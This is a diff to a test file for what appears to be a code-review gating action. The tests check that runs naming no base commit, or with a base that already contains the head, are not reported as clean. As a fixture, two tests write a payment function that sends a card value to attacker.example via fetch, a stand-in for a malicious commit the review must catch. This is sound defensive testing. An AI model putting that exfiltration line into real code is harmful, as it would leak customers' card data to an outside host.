@@ -534,17 +534,20 @@ describe('#45 an empty review is not a clean one', () => {
     const opted = await gate(repo, { 'allow-empty': 'true' }, event);
     expect(opted.outputs.verdict).toBe('clean');
     expect(line(opted.summary, /allowed empty \(allow-empty\): the change has 1 file\(s\) and none is selected for review/)).toBeDefined();
-    await seal(repo, ['--base', 'HEAD']);
+    // Commits that change nothing: no changes, clean.
+    git(repo, 'commit', '-q', '--allow-empty', '-m', 'nothing');
+    await seal(repo, ['--base', 'HEAD~1']);
     answer(repo);
     const none = await cliCase(repo, ['review', 'gate', ID]);
     expect(none.code).toBe(0);
     expect(none.stdout).toContain('note: no changes: the base and the head do not differ');
-    // The refs the wrong way round (the head behind the base): still no change, and the note says which way to look.
-    await seal(repo, ['--base', 'HEAD', '--head', 'HEAD~1']);
+    // The refs the wrong way round (the head behind the base): the base holds the head, so nothing of it was reviewed (#286).
+    await seal(repo, ['--base', 'HEAD', '--head', 'HEAD~2']);
     answer(repo);
-    const swapped = await cliCase(repo, ['review', 'gate', ID, '--head', 'HEAD~1']);
+    const swapped = await cliCase(repo, ['review', 'gate', ID, '--head', 'HEAD~2']);
+    expect(swapped.code).toBe(2);
     expect(swapped.stdout).toContain(
-      'note: no changes: the head is an ancestor of the base, so it adds nothing to their merge base; if --base and --head are the wrong way round, seal again with them swapped',
+      `nothing was reviewed: the base ${rev(repo, 'HEAD').slice(0, 12)} already holds the head ${rev(repo, 'HEAD~2').slice(0, 12)} (it descends from it), so this review saw none of the head's commits;`,
     );
   });
 });
@@ -1775,5 +1778,104 @@ describe('#300 a changed line longer than a quote may be (20,000 characters) is 
     expect(shown.stdout).toMatch(WHY);
     const ok = await cliCase(repo, ['review', 'gate', ID, '--acknowledge', 'src/table.js']);
     expect(ok.code, ok.stdout).toBe(0);
+  });
+});
+
+describe('#285 an event that names no change: review-scope and review-gate never fall back to HEAD~1', () => {
+  // workflow_dispatch, schedule, repository_dispatch, issue_comment, workflow_run: no pull request, merge queue
+  // group or push names the commits to review, so HEAD~1 sealed the branch tip's last commit alone and the check run
+  // on GITHUB_SHA (that tip, the head of the author's pull request too) said clean over every earlier commit.
+  it('#285 workflow_dispatch, schedule, repository_dispatch, issue_comment, workflow_run: refused with the fix, naming the default branch; with a base every commit is reviewed', async () => {
+    const repo = makeCartRepo();
+    write(repo, 'lib/pay.js', 'export const pay = (card) => fetch("https://attacker.example/?c=" + card);\n');
+    commitAll(repo, 'the commit that matters');
+    write(repo, 'README.md', 'typo fixed\n');
+    commitAll(repo, 'the last commit: a typo');
+    const lastOnly = await seal(repo, ['--base', 'HEAD~1']);
+    expect(lastOnly.files.map((f) => f.path)).toEqual(['README.md']);
+    answer(repo);
+    rmSync(scopeFile(repo));
+    const repository = { default_branch: 'develop', full_name: 'acme/shop' };
+    const events: [string, object][] = [
+      ['workflow_dispatch', { ref: 'refs/heads/feature', inputs: {}, repository }],
+      ['schedule', { schedule: '0 3 * * *', repository }],
+      ['repository_dispatch', { action: 'review', branch: 'feature', repository }],
+      ['issue_comment', { comment: { author_association: 'MEMBER', body: '/review' }, issue: { number: 7, pull_request: {} }, repository }],
+      ['workflow_run', { workflow_run: { head_sha: rev(repo, 'HEAD') }, repository }],
+    ];
+    for (const [name, event] of events) {
+      const opts = { env: { ...env(), GITHUB_EVENT_NAME: name }, event };
+      const scoped = await runActionAsync('review-scope.js', repo, { id: ID, 'upload-artifact': 'false' }, opts);
+      expect(scoped.code, name).toBe(1);
+      expect(scoped.stdout, name).toMatch(
+        new RegExp(
+          `::error::this ${name} run names no base commit, and HEAD~1 would review its last commit only.*give the \`base\` input .*origin/develop`,
+        ),
+      );
+      expect(existsSync(scopeFile(repo)), name).toBe(false);
+      const again = await runActionAsync(
+        'review-gate.js',
+        repo,
+        { id: ID, agent: 'none', 'upload-artifact': 'false', 'github-token': ENV_CANARIES.GITHUB_TOKEN },
+        opts,
+      );
+      expect(again.outputs.verdict, name).not.toBe('clean');
+      expect(again.stdout, name).toMatch(new RegExp(`::error::this ${name} run names no base commit`));
+      expect(existsSync(scopeFile(repo)), name).toBe(false);
+    }
+    const opts = { env: { ...env(), GITHUB_EVENT_NAME: 'workflow_dispatch' }, event: events[0]![1] };
+    const based = await runActionAsync('review-scope.js', repo, { id: ID, 'upload-artifact': 'false', base: 'HEAD~3' }, opts);
+    expect(based.code, based.stderr).toBe(0);
+    expect(readScope(repo).files.map((f) => f.path)).toEqual(['README.md', 'lib/pay.js', 'src/cart.js']);
+  });
+});
+
+describe('#286 a base that already holds the head reviews none of its commits', () => {
+  // `base: origin/main` (the fix #214's refusal named) on a push to main itself: the checkout's origin/main is the
+  // pushed head, so the scope was empty and the gate said clean ("no changes") on code nobody reviewed; the same for a
+  // base that moved past the head (a later push fetched before the gate), or `base: HEAD`.
+  it('#286 the base is the head, or descends from it: incomplete, naming both commits and the fix; allow-empty opts in', async () => {
+    const repo = makeCartRepo();
+    write(repo, 'lib/pay.js', 'export const pay = (card) => fetch("https://attacker.example/?c=" + card);\n');
+    commitAll(repo, 'pushed straight to main');
+    const head = rev(repo, 'HEAD');
+    const push = { before: rev(repo, 'HEAD~1'), after: head, forced: false, created: false, ref: 'refs/heads/main' };
+    git(repo, 'update-ref', 'refs/remotes/origin/main', 'HEAD');
+    for (const later of [false, true]) {
+      if (later) {
+        // The base moved past the head: a later commit on origin/main.
+        git(repo, 'checkout', '-q', '-b', 'later');
+        write(repo, 'docs/later.md', 'later\n');
+        commitAll(repo, 'a later push');
+        git(repo, 'update-ref', 'refs/remotes/origin/main', 'HEAD');
+        git(repo, 'checkout', '-q', '--detach', head);
+      }
+      const opts = { env: { ...env(), GITHUB_EVENT_NAME: 'push' }, event: push };
+      const scoped = await runActionAsync('review-scope.js', repo, { id: ID, 'upload-artifact': 'false', base: 'origin/main' }, opts);
+      expect(scoped.code, scoped.stderr).toBe(0);
+      expect(readScope(repo).files).toEqual([]);
+      answer(repo);
+      const r = await runActionAsync(
+        'review-gate.js',
+        repo,
+        { id: ID, agent: 'none', 'upload-artifact': 'false', 'github-token': ENV_CANARIES.GITHUB_TOKEN },
+        opts,
+      );
+      expectIncomplete(
+        r,
+        new RegExp(
+          `nothing was reviewed: the base ${rev(repo, 'origin/main').slice(0, 12)} already holds the head ${head.slice(0, 12)}.*none of the head's commits.*allow-empty`,
+        ),
+        head,
+      );
+      const opted = await runActionAsync(
+        'review-gate.js',
+        repo,
+        { id: ID, agent: 'none', 'upload-artifact': 'false', 'github-token': ENV_CANARIES.GITHUB_TOKEN, 'allow-empty': 'true' },
+        opts,
+      );
+      expect(opted.outputs.verdict).toBe('clean');
+      rmSync(folderOf(repo, ID), { recursive: true, force: true });
+    }
   });
 });
